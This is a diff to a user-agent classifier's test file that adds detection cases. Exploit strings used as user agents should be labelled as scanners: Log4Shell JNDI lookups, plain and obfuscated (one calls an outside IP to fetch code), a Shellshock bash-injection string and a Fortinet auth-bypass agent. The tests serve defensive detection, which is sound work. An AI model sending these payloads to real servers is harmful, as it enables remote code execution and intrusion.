@@ -183,6 +183,13 @@ def test_browsers(ua, family):
             ("crawler", "crawler"),
         ),
         # other: apps and anything else
+        # exploit payloads as the agent: Log4Shell (plain and obfuscated), Shellshock
+        ("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1}", ("scanner", "log4shell")),
+        ("${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/c}",
+         ("scanner", "log4shell")),
+        ("${${::-j}ndi:rmi://x/a}", ("scanner", "log4shell")),
+        ("() { :; }; /bin/bash -c 'id'", ("scanner", "shellshock")),
+        ("Report Runner", ("scanner", "fortinet-auth-bypass")),
         ("MyShop/4.2 (iPhone; iOS 17.0; Scale/3.00)", ("other", "")),
         ("Roku/DVP-13.1 (13.1.4.01510-30)", ("other", "")),
         ("OWASP CRS test agent", ("other", "")),
@@ -201,6 +208,7 @@ def test_kinds(ua, expected):
         "Mozilla/5.0 (Linux; Android 10; Pantech VEGA) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/120.0 Mobile Safari/537.36",
         "mozilla/5.0 ecairn-grabber/1.0 (+http://ecairn.com/grabber)",
+        "MyApp/1.0 (template ${version}; () => {})",   # braces, no lookup or function body
     ],
 )
 def test_not_scanner(ua):
